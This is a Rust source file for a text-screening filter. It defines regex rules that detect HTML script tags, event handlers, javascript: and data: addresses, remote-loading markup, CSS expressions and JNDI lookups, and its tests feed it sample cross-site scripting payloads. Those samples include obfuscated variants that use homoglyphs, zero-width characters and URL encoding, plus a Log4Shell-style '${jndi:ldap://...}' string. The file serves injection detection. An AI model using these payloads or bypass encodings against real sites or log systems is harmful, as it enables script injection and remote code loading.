//! Markup and scripts. The page makes no HTML of a text, and has a wall behind that; this tells of who tries. Asking about HTML is
//! ordinary, so a message goes on; a name has no use for it and is refused.

use super::{LooksFor, Rule};
use crate::{Class, Verdict};

const fn rule(name: &'static str, says: &'static str, patterns: &'static [&'static str]) -> Rule {
    Rule {
        name,
        class: Class::Markup,
        in_prompt: Verdict::Flag,
        in_name: Verdict::Block,
        says,
        looks_for: LooksFor::Code(patterns),
    }
}

pub(super) const RULES: &[Rule] = &[
    rule(
        "markup.script",
        "There is a script element in this text. It is shown as text and never run; in a name, leave it out.",
        &[r"<[ \n/]{0,4}script(?:[ \n/>:]|$)"],
    ),
    rule(
        "markup.event_handler",
        "There is markup with an event handler in this text. It is shown as text and never run; in a name, leave it out.",
        &[
            // Any handler: a list of names would be passed by the next name.
            r#"<[a-z!/?\[](?u:[^<>])*[ \n"'/`]on[a-z]{3,24}[ \n]*="#,
            r#"["'`][ \n/]*on[a-z]{3,24}[ \n]*=[ \n]*["'`]?[ -~]{0,40}[(`=]"#,
            r"<[ \n]{0,2}svg[ -~\n]{0,80}onload",
        ],
    ),
    rule(
        "markup.script_address",
        "There is an address in this text that is a script. It is no link here; in a name, leave it out.",
        &[
            // Browsers leave out white space inside the word.
            r"\bj[ \n]?a[ \n]?v[ \n]?a[ \n]?s[ \n]?c[ \n]?r[ \n]?i[ \n]?p[ \n]?t[ \n]?:[ \n]{0,2}(?u:[^ \n]){0,60}[(=`\[%/;]",
            r"\b(?:vb|live)script[ \n]?:[ \n]{0,2}[a-z]+[ \n]?\(",
            r"\bdata:[ \n]{0,2}(?:text/html|image/svg\+xml|application/xhtml|text/xml|text/javascript|application/javascript)",
        ],
    ),
    rule(
        "markup.embedded",
        "There is markup in this text that loads something from elsewhere. Nothing is loaded here; in a name, leave it out.",
        &[
            r"<[ \n/]{0,2}(?:iframe|object|embed|applet|frameset|base)[ \n/>]",
            r"<[ \n]{0,2}meta[ \n/](?u:[^<>])*http-equiv",
            r"<[ \n]{0,2}link[ \n/](?u:[^<>])*(?:stylesheet|import)",
            r#"<[ \n]{0,2}(?:img|image|video|audio|input|body|table|td|a)[ \n/](?u:[^<>])*(?:src|href|background|dynsrc|lowsrc)[ \n]*=[ \n]*["'`\\]{0,3}[ \n]?(?:https?:)?//"#,
            r"@import[ \n]+[ -~]{0,6}(?:https?:|//|javascript)",
        ],
    ),
    rule(
        "markup.style_script",
        "There is a style in this text that holds a script. It is shown as text and never run; in a name, leave it out.",
        &[
            r#"\bstyle[ \n]*=(?u:[^<>]){0,120}(?:expression[ \n]*\(|behaviou?r[ \n]*:|-moz-binding|javascript:)"#,
            r"<!--\[if[ -~\n]{0,60}(?:<script|javascript:|on[a-z]+=)",
        ],
    ),
    rule(
        "markup.lookup",
        "There is a lookup in this text (`${jndi:…}`) that some log readers would follow. It is plain text here.",
        &[r"\$\{(?:jndi|[ -~]{0,40}:-?j\}?[ -~]{0,20}ndi)[ -~]{0,10}:"],
    ),
];

#[cfg(test)]
mod tests {
    use crate::{
        Place, Verdict,
        rules::testing::{finds, finds_nothing},
        screen,
    };

    #[test]
    fn a_second_space_a_tab_or_another_handler_name_is_no_way_around() {
        for text in [
            "<img src=x onerror=alert(1)>",
            "<img  src=x  onerror  =alert(1)>",
            "<img\tsrc=x\tonerror=alert(1)>",
            "<IMG SRC=x ONPOINTERRAWUPDATE=alert(1)>",
            "<details/open/ontoggle=alert(1)>",
            "<body onwhatevercomesnext\n=\n'x'>",
            "<im\u{200b}g src=x one\u{ad}rror=alert(1)>",
            "＜img src=x onerror＝alert(1)＞",
            "&lt;img src=x onerror=alert(1)&gt;",
            "%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
            "\\x3cimg src=x onerror=alert(1)\\x3e",
        ] {
            finds(text, "markup.event_handler");
            assert_eq!(screen(text, Place::Name).verdict, Verdict::Block, "{text}");
        }
        for text in
            ["<script>", "< script >", "<\nscript src=x>", "<ѕсrірt>alert(1)</ѕсrірt>", "&#60;script&#62;"]
        {
            finds(text, "markup.script");
            assert_eq!(screen(text, Place::Name).verdict, Verdict::Block, "{text}");
        }
    }

    #[test]
    fn addresses_styles_and_what_is_loaded_are_found_and_prose_is_not() {
        finds("[x](javascript:alert(1))", "markup.script_address");
        finds("java\nscript:alert(1)", "markup.script_address");
        finds("data:text/html;base64,AAAA", "markup.script_address");
        finds("<iframe src=x>", "markup.embedded");
        finds("<img src=//x.example/y>", "markup.embedded");
        finds("<div style=\"x:expression(alert(1))\">", "markup.style_script");
        finds("${jndi:ldap://x.example/a}", "markup.lookup");
        for near in [
            "JavaScript: the good parts",
            "What does a <div> do, and what is <b>bold</b>?",
            "Is 3 < 4 and on = off?",
            "The description < of a script",
            "Turn it on = now, I said 'once' on Monday",
            "I love you <3",
        ] {
            finds_nothing(near);
        }
    }
}
